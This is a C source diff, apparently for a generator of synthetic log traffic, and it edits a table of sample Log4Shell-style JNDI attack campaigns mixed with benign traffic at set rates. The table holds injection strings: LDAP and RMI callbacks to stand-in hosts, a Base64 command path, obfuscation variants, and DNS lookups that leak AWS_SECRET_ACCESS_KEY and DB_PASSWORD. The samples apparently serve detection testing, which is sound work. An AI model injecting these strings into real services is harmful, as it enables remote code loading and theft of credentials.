@@ -192,13 +192,17 @@ void line_dense(struct line *l, struct gen *g, const struct request *r)
 }
 
 static const struct campaign sample_campaigns[] = {
-    {"ldap", "198.51.100.23:1389", "/Basic/Command/Base64/*", OBF_PLAIN, ENC_NONE},
-    {"ldap", "*.drip.example", "/a", OBF_LOWER, ENC_NONE},
-    {"ldap", "*.hook.example:1389", "/*", OBF_DEFAULT, ENC_PERCENT},
-    {"dns", "${env:AWS_SECRET_ACCESS_KEY}.leak.example", "/x", OBF_PLAIN, ENC_NONE},
-    {"rmi", "203.0.113.66:1099", "/obj", OBF_ENV, ENC_PERCENT_TWICE},
-    {"ldap", "*.oast.site", "/probe", OBF_PLAIN, ENC_NONE},
-    {"ldaps", "*.late.example", "/*", OBF_NESTED, ENC_BACKSLASH_X},
+    {.scheme = "ldap", .host = "198.51.100.23:1389", .path = "/Basic/Command/Base64/*"},
+    {.scheme = "ldap", .host = "*.drip.example", .path = "/a", .obfuscation = OBF_LOWER},
+    {.scheme = "ldap", .host = "*.hook.example:1389", .path = "/*", .obfuscation = OBF_DEFAULT, .encoding = ENC_PERCENT},
+    {.scheme = "dns", .host = "${env:AWS_SECRET_ACCESS_KEY}.leak.example", .path = "/x"},
+    {.scheme = "rmi", .host = "203.0.113.66:1099", .path = "/obj", .obfuscation = OBF_ENV, .encoding = ENC_PERCENT_TWICE},
+    {.scheme = "ldap", .host = "*.oast.site", .path = "/probe"},
+    {.scheme = "ldaps", .host = "*.late.example", .path = "/*", .obfuscation = OBF_NESTED, .encoding = ENC_BACKSLASH_X},
+    {.literal = "${jndi:LDAP://203.0.113.9/*}"},             /* schemes are case-sensitive: connects nowhere */
+    {.literal = "${jndi:ldap://203.0.113.9/*"},              /* the brace was forgotten */
+    {.literal = "${${::-${::-$${::-j}}}}"},                  /* recursion */
+    {.literal = "${env:DB_PASSWORD}", .encoding = ENC_HTML}, /* asks for a secret */
 };
 /* Per second: when each campaign begins, its rate then, and its rate at the end of the hour. */
 static const struct {
@@ -206,6 +210,7 @@ static const struct {
     double rate, rate_end;
 } sample_rates[] = {
     {360, 0.03, 0.06}, {1080, 0.02, 0.22}, {1500, 0.02, 0.12}, {1860, 0.01, 0.02}, {2100, 0.02, 0.03}, {2400, 0.05, 0.005}, {3000, 0.05, 0.35},
+    {600, 0.004, 0.004}, {900, 0.003, 0.003}, {3300, 0.03, 0.06}, {1200, 0.003, 0.005},
 };
 enum { SAMPLE_CAMPAIGNS = sizeof sample_campaigns / sizeof sample_campaigns[0] };
 #define SAMPLE_BENIGN 1.1
